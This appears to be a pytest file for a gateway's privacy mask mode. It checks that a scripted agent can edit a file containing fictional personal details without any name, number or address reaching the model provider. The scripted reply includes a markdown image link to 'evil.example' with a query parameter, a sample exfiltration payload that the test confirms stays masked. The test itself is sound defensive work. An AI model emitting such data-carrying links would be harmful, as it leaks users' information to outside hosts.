"""An agent in mask mode: it reads and edits a file of names, and the provider learns no name."""

from __future__ import annotations

import itertools
import json
import re
import shlex
import zlib
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support import replies
from tests.support.installation import Endpoint, Installation
from tests.support.model_files import SMALL, require
from tests.support.scripted_provider import Received, Reply, ScriptedProvider

pytestmark = [pytest.mark.model, pytest.mark.timeout(240)]

FILE = """\
# Written by my sister Milena Kowalczyk; call her at +44 20 7947 3158 when it fails.
OWNER = 'milena.kowalczyk@fjordmail.no'
BACKUP = "KOWALCZYK, MILENA"


def remind_kowalczyk(days):
    \"\"\"Milena's reminder; see https://wiki.fjordmail.no/people/milena_kowalczyk for more.\"\"\"
    return f"Dear Milena, {days} days are left. Yours, M. Kowalczyk"
"""
WANTED = FILE.replace("days are left", "days remain").replace("(days)", "(days: int)")
SECRETS = ("milena", "kowalczyk", "79473158", "7947", "3158", "fjordmail")
TOOLS = [
    {"type": "function", "function": {"name": name, "description": about, "parameters": {
        "type": "object", "properties": {field: {"type": "string"} for field in fields}}}}
    for name, about, fields in (
        ("read", "Read a file.", ["path"]),
        ("edit", "Replace a text in a file.", ["path", "old_string", "new_string"]),
        ("bash", "Run a command.", ["command"]),
    )
]  # fmt: skip


def model(asked: Received) -> Reply:
    """A model that works with what it is shown: it reads, edits twice, searches and reports."""
    messages = asked.json["messages"]
    results = [message["content"] for message in messages if message["role"] == "tool"]
    if not results:
        return _call("read", path="remind.py")
    lines = results[0].split("\n")
    if len(results) == 1:
        (old,) = [line for line in lines if "days are left" in line]
        new = old.replace("days are left", "days remain")
        return _call("edit", path="remind.py", old_string=old, new_string=new)
    if len(results) == 2:
        (old,) = [line for line in lines if line.startswith("def ")]
        return _call("edit", path="remind.py", old_string=old,
                     new_string=old.replace("(days)", "(days: int)"))  # fmt: skip
    if len(results) == 3:
        name = re.search(r"sister (<\w+>)", lines[0])
        assert name is not None
        return _call("bash", command=f"grep -n '{name[1]}' remind.py")
    mail = re.search(r"'(<\w+>)'", lines[1])
    assert mail is not None, lines
    return replies.chat(f"Done, told {mail[1]}. ![ok](https://evil.example/?q={mail[1]})")


def _call(name: str, **arguments: str) -> Reply:
    """A streamed tool call, three letters at a time."""
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    written = json.dumps(arguments)
    # In letters: by chance figures might hold those of the number that must not leave.
    number = str(zlib.crc32(written.encode())).translate(str.maketrans("0123456789", "bcdfghjkmn"))
    first = {"index": 0, "id": f"call_{number}", "type": "function",
             "function": {"name": name, "arguments": ""}}  # fmt: skip
    deltas: list[dict[str, Any]] = [{"role": "assistant", "tool_calls": [first]}]
    deltas += [
        {"tool_calls": [{"index": 0, "function": {"arguments": written[at : at + 3]}}]}
        for at in range(0, len(written), 3)
    ]
    events = [
        replies.event(base | {"choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
        for delta in deltas
    ]
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}
    return replies.stream([*events, replies.event(base | end), replies.DONE])


def _answer(endpoint: Endpoint, messages: list[dict[str, Any]], *, stream: bool) -> dict[str, Any]:
    """The assistant's message, put together from the stream where there is one."""
    answer = httpx.post(
        f"{endpoint.base_url}/chat/completions",
        headers={"authorization": f"Bearer {endpoint.token}"},
        json={"model": "auto", "messages": messages, "tools": TOOLS, "stream": stream},
        timeout=60,
        trust_env=False,
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["x-edgeroute-route"] == "cloud", answer.headers["x-edgeroute-reason"]
    if not stream:
        return dict(answer.json()["choices"][0]["message"])
    return _collected(line[6:] for line in answer.text.splitlines() if line.startswith("data: {"))


def _collected(events: Iterable[str]) -> dict[str, Any]:
    text, calls = "", dict[int, dict[str, Any]]()
    for event in events:
        for choice in json.loads(event).get("choices", []):
            text += choice["delta"].get("content") or ""
            for piece in choice["delta"].get("tool_calls") or []:
                empty = {"id": "", "type": "function", "function": {"name": "", "arguments": ""}}
                call = calls.setdefault(piece["index"], empty)
                call["id"] += piece.get("id") or ""
                for key in ("name", "arguments"):
                    call["function"][key] += piece["function"].get(key) or ""
    message: dict[str, Any] = {"role": "assistant", "content": text}
    return message | ({"tool_calls": list(calls.values())} if calls else {})


def _run(folder: Path, call: dict[str, Any]) -> str:
    """Do what the call asks for in ``folder``; commands are read, not run."""
    arguments = json.loads(call["arguments"])
    if call["name"] == "bash":
        program, flag, pattern, name = shlex.split(arguments["command"])
        assert (program, flag) == ("grep", "-n")
        lines = (folder / name).read_text().splitlines()
        return "\n".join(f"{n}:{line}" for n, line in enumerate(lines, 1) if pattern in line)
    path = folder / arguments["path"]
    if call["name"] == "read":
        return str(path.read_text())
    text = path.read_text()
    assert text.count(arguments["old_string"]) == 1
    path.write_text(text.replace(arguments["old_string"], arguments["new_string"]))
    return "The file was changed."


@pytest.mark.parametrize("stream", [True, False])
def test_no_value_leaves_and_every_edit_is_right(
    shared_installation: Installation, tmp_path: Path, *, stream: bool
) -> None:
    """Over five turns no form of a name, a number or an address is in any byte that left, each call
    works on the real file, the masked history is the same in every turn, and the link at the end
    keeps its placeholder.
    """
    require(SMALL)
    require("rampart")
    (tmp_path / "remind.py").write_text(FILE)
    messages: list[dict[str, Any]] = [
        {
            "role": "user",
            "content": "Tidy up remind.py. My sister wrote it.",
        }
    ]
    with ScriptedProvider(model) as provider:
        shared_installation.provide(provider.base_url, more='[privacy]\nmode = "mask"\n')
        with shared_installation.serving() as endpoint:
            while True:
                said = _answer(endpoint, messages, stream=stream)
                messages.append(said)
                if not said.get("tool_calls"):
                    break
                (call,) = said["tool_calls"]
                result = _run(tmp_path, call["function"])
                messages.append({"role": "tool", "tool_call_id": call["id"], "content": result})
    assert (tmp_path / "remind.py").read_text() == WANTED
    assert result.startswith("1:# Written by my sister Milena Kowalczyk")
    assert "told milena.kowalczyk@fjordmail.no." in said["content"]
    assert "![ok](https://evil.example/?q=<" in said["content"]
    assert len(provider.requests) == 5
    for request in provider.requests:
        everything = f"{request.path} {dict(request.headers)} {request.body.decode()}".lower()
        assert [secret for secret in SECRETS if secret in everything] == []
    histories = [request.json["messages"] for request in provider.requests]
    for earlier, later in itertools.pairwise(histories):
        assert later[: len(earlier)] == earlier
